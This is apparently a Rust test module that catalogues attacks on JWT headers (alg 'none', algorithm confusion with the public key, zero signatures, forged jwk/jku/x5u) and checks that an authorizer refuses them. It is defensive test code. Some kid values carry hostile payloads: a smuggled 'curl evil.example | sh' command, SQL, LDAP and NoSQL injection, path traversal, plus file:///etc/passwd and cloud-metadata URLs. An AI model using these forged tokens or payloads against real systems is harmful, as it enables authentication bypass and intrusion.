//! Attacks with the header of a token.

use authorizer::Refusal::{
    Algorithm, CriticalHeader, DuplicateMember, MalformedJson, MalformedKeyId, Signature, TokenTooLarge,
    UnknownKey,
};
use aws_lc_rs::{
    hmac::{self, HMAC_SHA256, HMAC_SHA384, HMAC_SHA512},
    signature::{RSA_PKCS1_SHA256, RSA_PKCS1_SHA384, RSA_PKCS1_SHA512, RSA_PSS_SHA256, RsaEncoding},
};
use serde_json::{Value, json};
use test_support::signer::{self, FIRST, FOREIGN, b64, changed, claims, unsigned};

use crate::catalogue::{Attack, Case, Outcome, attack, refused};

/// A token without a signature.
fn none(alg: &str) -> Case {
    let header = json!({"alg": alg, "kid": "first"}).to_string();
    Case::token(&format!("{}.", unsigned(header, claims().to_string())))
}

/// A token with a MAC, under this secret.
fn mac(algorithm: hmac::Algorithm, name: &str, secret: &[u8]) -> Case {
    Case::token(&signer::mac(algorithm, &json!({"alg": name, "kid": "first"}), &claims(), secret))
}

/// A token that is properly signed under another algorithm with the pool's own key.
fn other(algorithm: &'static dyn RsaEncoding, name: &str) -> Case {
    let header = json!({"alg": name, "kid": "first"}).to_string();
    Case::token(&FIRST.sign_as(algorithm, header, claims().to_string()))
}

/// A token that an attacker signed, with these members in its header.
fn attackers(members: Value) -> Case {
    let header = changed(FOREIGN.header(), members).to_string();
    Case::token(&FOREIGN.sign(header, claims().to_string()))
}

/// The public key as a PEM file, a secret that everyone knows.
fn pem() -> String {
    let integer = |bytes: &[u8]| [&[0x02, 0x82, 0x01, 0x01, 0x00][..], bytes].concat();
    let content = [integer(&FIRST.n), vec![0x02, 0x03, 0x01, 0x00, 0x01]].concat();
    let length = u16::try_from(content.len()).unwrap().to_be_bytes();
    let der = [&[0x30, 0x82][..], &length, &content].concat();
    let text = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, der);
    format!("-----BEGIN RSA PUBLIC KEY-----\n{text}\n-----END RSA PUBLIC KEY-----\n")
}

fn raw_header(header: &str) -> Case {
    Case::token(&FIRST.sign(header, claims().to_string()))
}

pub(crate) fn attacks() -> Vec<Attack> {
    let mut attacks = algorithms();
    attacks.extend(members());
    attacks
}

fn algorithms() -> Vec<Attack> {
    vec![
        refused("`alg` none", "RFC 8725 section 2.1; CVE-2022-23540", Algorithm, || none("none")),
        refused("`alg` None", "McLean, JWT libraries, 2015", Algorithm, || none("None")),
        refused("`alg` NONE", "McLean, JWT libraries, 2015", Algorithm, || none("NONE")),
        refused("`alg` nOnE", "McLean, JWT libraries, 2015", Algorithm, || none("nOnE")),
        refused("`alg` none with a NUL", "CWE-158, null byte", Algorithm, || none("none\0")),
        refused("`alg` none with a blank", "RFC 7515 section 4.1.1", Algorithm, || none(" none")),
        refused("`alg` empty", "RFC 7515 section 4.1.1", Algorithm, || none("")),
        refused("`alg` RS256, unsigned", "CVE-2020-28042", Signature, || none("RS256")),
        refused("`alg` none, with a good signature", "RFC 8725 section 3.1", Algorithm, || {
            Case::header(json!({"alg": "none"}))
        }),
        refused("no `alg`", "RFC 7515 section 4.1.1", Algorithm, || Case::header(json!({"alg": null}))),
        refused("`alg` a list", "RFC 7515 section 4.1.1", Algorithm, || {
            Case::header(json!({"alg": ["RS256"]}))
        }),
        refused("`alg` in other casing", "RFC 7515 section 4.1.1", Algorithm, || {
            Case::header(json!({"alg": "rs256"}))
        }),
        refused("`alg` RS256 with a NUL", "CWE-158, null byte", Algorithm, || {
            Case::header(json!({"alg": "RS256\0"}))
        }),
        refused("HS256 keyed with the public key's PEM", "CVE-2015-9235; CVE-2016-10555", Algorithm, || {
            mac(HMAC_SHA256, "HS256", pem().as_bytes())
        }),
        refused("HS256 keyed with the public key's JWK", "CVE-2016-5431", Algorithm, || {
            mac(HMAC_SHA256, "HS256", FIRST.jwk().to_string().as_bytes())
        }),
        refused("HS256 keyed with the modulus", "CVE-2022-29217", Algorithm, || {
            mac(HMAC_SHA256, "HS256", &FIRST.n)
        }),
        refused("HS384 keyed with the public key's PEM", "CVE-2024-54150", Algorithm, || {
            mac(HMAC_SHA384, "HS384", pem().as_bytes())
        }),
        refused("HS512 keyed with the public key's PEM", "CVE-2023-48238", Algorithm, || {
            mac(HMAC_SHA512, "HS512", pem().as_bytes())
        }),
        refused("a MAC under the name of RS256", "RFC 8725 section 2.1", Signature, || {
            mac(HMAC_SHA256, "RS256", pem().as_bytes())
        }),
        refused("RS384 of the pool's own key", "RFC 8725 section 3.1", Algorithm, || {
            other(&RSA_PKCS1_SHA384, "RS384")
        }),
        refused("RS512 of the pool's own key", "RFC 8725 section 3.1", Algorithm, || {
            other(&RSA_PKCS1_SHA512, "RS512")
        }),
        refused("PS256 of the pool's own key", "RFC 8725 section 3.1", Algorithm, || {
            other(&RSA_PSS_SHA256, "PS256")
        }),
        refused("RS384 under the name of RS256", "RFC 7518 section 3.3", Signature, || {
            other(&RSA_PKCS1_SHA384, "RS256")
        }),
        refused("RS512 under the name of RS256", "RFC 7518 section 3.3", Signature, || {
            other(&RSA_PKCS1_SHA512, "RS256")
        }),
        refused("PS256 under the name of RS256", "RFC 7518 section 3.5", Signature, || {
            other(&RSA_PSS_SHA256, "RS256")
        }),
        refused("RS256 under the name of RS1", "RFC 8725 section 3.2", Algorithm, || {
            other(&RSA_PKCS1_SHA256, "RS1")
        }),
        refused("ES256 with r and s zero", "CVE-2022-21449, psychic signatures", Algorithm, || {
            let header = json!({"alg": "ES256", "kid": "first"}).to_string();
            Case::token(&format!("{}.{}", unsigned(header, claims().to_string()), b64([0; 64])))
        }),
        refused("EdDSA with zeros", "RFC 8725 section 3.1", Algorithm, || {
            let header = json!({"alg": "EdDSA", "kid": "first"}).to_string();
            Case::token(&format!("{}.{}", unsigned(header, claims().to_string()), b64([0; 64])))
        }),
        refused("PBES2 with a billion rounds", "CVE-2022-36083", Algorithm, || {
            Case::header(json!({"alg": "PBES2-HS256+A128KW", "p2c": 1_000_000_000, "p2s": "AAAA"}))
        }),
    ]
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn members() -> Vec<Attack> {
    const NO_KEY: Outcome = Outcome::Harmless("never looked at; the pool's key verifies");
    vec![
        refused("attacker's key as `jwk`", "CVE-2018-0114; RFC 7515 section 4.1.3", Signature, || {
            attackers(json!({"jwk": FOREIGN.jwk()}))
        }),
        refused(
            "attacker's address as `jku`",
            "RFC 8725 section 3.10; RFC 7515 section 4.1.2",
            Signature,
            || attackers(json!({"jku": "http://127.0.0.1:9/jwks.json"})),
        ),
        refused(
            "attacker's address as `x5u`",
            "RFC 8725 section 3.10; RFC 7515 section 4.1.5",
            Signature,
            || attackers(json!({"x5u": "https://evil.example/chain.pem"})),
        ),
        refused("attacker's chain as `x5c`", "RFC 7515 section 4.1.6", Signature, || {
            attackers(json!({"x5c": [b64(&FOREIGN.n)]}))
        }),
        refused("attacker's `jwk` with a `kid` of its own", "CVE-2018-0114", UnknownKey, || {
            let jwk = changed(FOREIGN.jwk(), json!({"kid": "mine"}));
            attackers(json!({"kid": "mine", "jwk": jwk}))
        }),
        attack(
            "`jwk`, `jku`, `x5u` and `x5c` beside a good signature",
            "RFC 8725 section 3.10",
            NO_KEY,
            || {
                Case::header(json!({
                    "jwk": FOREIGN.jwk(), "jku": "http://169.254.169.254/latest/meta-data/", "x5u": "file:///etc/passwd",
                    "x5c": ["MIIB"]
                }))
            },
        ),
        refused("no `kid`", "RFC 7515 section 4.1.4", MalformedKeyId, || Case::header(json!({"kid": null}))),
        refused("empty `kid`", "RFC 7515 section 4.1.4", MalformedKeyId, || Case::header(json!({"kid": ""}))),
        refused("`kid` a number", "RFC 7515 section 4.1.4", MalformedKeyId, || {
            Case::header(json!({"kid": 0}))
        }),
        refused("`kid` a list", "RFC 7515 section 4.1.4", MalformedKeyId, || {
            Case::header(json!({"kid": ["first"]}))
        }),
        refused("`kid` an object", "CWE-943, NoSQL injection", MalformedKeyId, || {
            Case::header(json!({"kid": {"$ne": ""}}))
        }),
        refused("`kid` of 257 bytes", "RFC 8725 section 3.10", MalformedKeyId, || {
            Case::header(json!({"kid": "k".repeat(257)}))
        }),
        refused("`kid` of a megabyte", "CVE-2025-61920", TokenTooLarge, || {
            Case::header(json!({"kid": "k".repeat(1 << 20)}))
        }),
        refused("path traversal in `kid`", "RFC 8725 section 3.10; CWE-22", UnknownKey, || {
            let header = json!({"alg": "RS256", "kid": "../../../../dev/null"}).to_string();
            Case::token(&FOREIGN.sign(header, claims().to_string()))
        }),
        refused("SQL in `kid`", "RFC 8725 section 3.10; CWE-89", UnknownKey, || {
            Case::header(json!({"kid": "x' UNION SELECT 'c2VjcmV0' -- "}))
        }),
        refused("a command in `kid`", "RFC 8725 section 3.10; CWE-78", UnknownKey, || {
            Case::header(json!({"kid": "/dev/null; curl evil.example | sh"}))
        }),
        refused("LDAP in `kid`", "RFC 8725 section 3.10; CWE-90", UnknownKey, || {
            Case::header(json!({"kid": "*)(uid=*"}))
        }),
        refused("NUL in `kid`", "CWE-158, null byte", UnknownKey, || Case::header(json!({"kid": "first\0"}))),
        refused("`kid` in other casing", "RFC 7515 section 4.1.4", UnknownKey, || {
            Case::header(json!({"kid": "First"}))
        }),
        refused("another Unicode form of `kid`", "Unicode TR 36", UnknownKey, || {
            Case::header(json!({"kid": "ﬁrst"}))
        }),
        refused("`kid` `__proto__`", "CWE-1321, prototype pollution", UnknownKey, || {
            Case::header(json!({"kid": "__proto__"}))
        }),
        refused("line feed in `kid`", "CWE-117, log injection", UnknownKey, || {
            Case::header(json!({"kid": "x\n{\"outcome\":\"allowed\"}"}))
        }),
        refused(
            "`crit` with an unknown extension",
            "RFC 7515 section 4.1.11; CVE-2025-59420",
            CriticalHeader,
            || Case::header(json!({"crit": ["cnf"], "cnf": {"jkt": "x"}})),
        ),
        refused("`crit` with a known name", "RFC 7515 section 4.1.11", CriticalHeader, || {
            Case::header(json!({"crit": ["exp"], "exp": 1}))
        }),
        refused("empty `crit`", "RFC 7515 section 4.1.11", CriticalHeader, || {
            Case::header(json!({"crit": []}))
        }),
        refused("`crit` no list", "RFC 7515 section 4.1.11", CriticalHeader, || {
            Case::header(json!({"crit": "exp"}))
        }),
        refused("`b64` false in `crit`", "RFC 7797 section 6", CriticalHeader, || {
            Case::header(json!({"b64": false, "crit": ["b64"]}))
        }),
        refused("`b64` false without `crit`", "RFC 7797 section 6", CriticalHeader, || {
            Case::header(json!({"b64": false}))
        }),
        refused("`alg` twice", "RFC 7515 section 4", DuplicateMember, || {
            raw_header(r#"{"alg":"none","alg":"RS256","kid":"first"}"#)
        }),
        refused("`kid` twice, one of them escaped", "RFC 7515 section 4", DuplicateMember, || {
            raw_header(r#"{"alg":"RS256","kid":"first","\u006bid":"x"}"#)
        }),
        refused(
            "a member twice in a nested object of the header",
            "RFC 8725 section 2.6",
            DuplicateMember,
            || raw_header(r#"{"alg":"RS256","kid":"first","jwk":{"e":"AQAB","e":"Aw"}}"#),
        ),
        refused("header a list", "RFC 7515 section 4", MalformedJson, || raw_header("[]")),
        refused("header nested 200 levels deep", "CVE-2020-36518", MalformedJson, || {
            raw_header(&format!(
                r#"{{"alg":"RS256","kid":"first","x":{}{}}}"#,
                "[".repeat(200),
                "]".repeat(200)
            ))
        }),
        refused("`zip` with a compressed payload", "RFC 8725 section 3.6", MalformedJson, || {
            let header = json!({"alg": "RS256", "kid": "first", "zip": "DEF"}).to_string();
            Case::token(&FIRST.sign(header, [0xED, 0xC1, 0x01, 0x01, 0x00, 0x00, 0x00, 0x80, 0x90]))
        }),
        attack(
            "`zip` with a plain payload",
            "RFC 8725 section 3.6",
            Outcome::Harmless("nothing is decompressed"),
            || Case::header(json!({"zip": "DEF"})),
        ),
        attack(
            "`typ` of something else",
            "RFC 8725 section 3.11",
            Outcome::Harmless("Cognito names no type; `token_use` tells access tokens apart"),
            || Case::header(json!({"typ": "logout+jwt"})),
        ),
        attack("`typ` no text", "RFC 7515 section 4.1.9", Outcome::Harmless("never looked at"), || {
            Case::header(json!({"typ": {"a": []}}))
        }),
        attack(
            "`cty` beside plain claims",
            "RFC 7519 section 5.2",
            Outcome::Harmless("never looked at"),
            || Case::header(json!({"cty": "JWT"})),
        ),
    ]
}
